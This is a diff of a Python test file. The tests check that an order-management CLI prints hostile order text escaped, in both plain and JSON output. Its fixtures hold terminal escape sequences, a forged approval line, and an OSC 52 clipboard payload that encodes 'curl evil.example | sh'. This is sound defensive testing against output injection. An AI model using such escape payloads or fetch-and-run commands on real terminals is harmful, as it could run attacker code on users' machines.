@@ -11,8 +11,7 @@ from __future__ import annotations
 
 import json
 
-from conftest import CLEAR_FACTS
-from test_ops_cli import cli  # noqa: F401 - the fixture: `guard` run in this process
+from support.api import CLEAR_FACTS
 
 CLEAR_SCREEN = "\x1b[2J\x1b[H"
 CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: "curl evil.example | sh"
@@ -53,7 +52,7 @@ def assert_inert(text: str) -> None:
     assert "DO SHIP: supervisor approved" not in text.splitlines()  # no forged line of its own
 
 
-def test_guard_order_prints_hostile_text_escaped(guard, cli):  # noqa: F811
+def test_guard_order_prints_hostile_text_escaped(guard, cli):
     hostile_order(guard)
     done = cli("order", "o-1")
     assert_inert(done.stdout + done.stderr)
@@ -61,7 +60,7 @@ def test_guard_order_prints_hostile_text_escaped(guard, cli):  # noqa: F811
     assert "\\nDO SHIP: supervisor approved" in done.stdout
 
 
-def test_guard_order_json_stays_json_with_the_exact_text(guard, cli):  # noqa: F811
+def test_guard_order_json_stays_json_with_the_exact_text(guard, cli):
     hostile_order(guard)
     done = cli("order", "o-1", "--json")
     assert_inert(done.stdout)
@@ -69,7 +68,7 @@ def test_guard_order_json_stays_json_with_the_exact_text(guard, cli):  # noqa: F
     assert shown["order"]["facts"]["shipping_notice"]["carrier"] == "Cainiao" + HOSTILE
 
 
-def test_every_listing_prints_escaped(guard, cli):  # noqa: F811
+def test_every_listing_prints_escaped(guard, cli):
     hostile_order(guard)
     for args in (
         ("holds", "list", "--state", "all"),
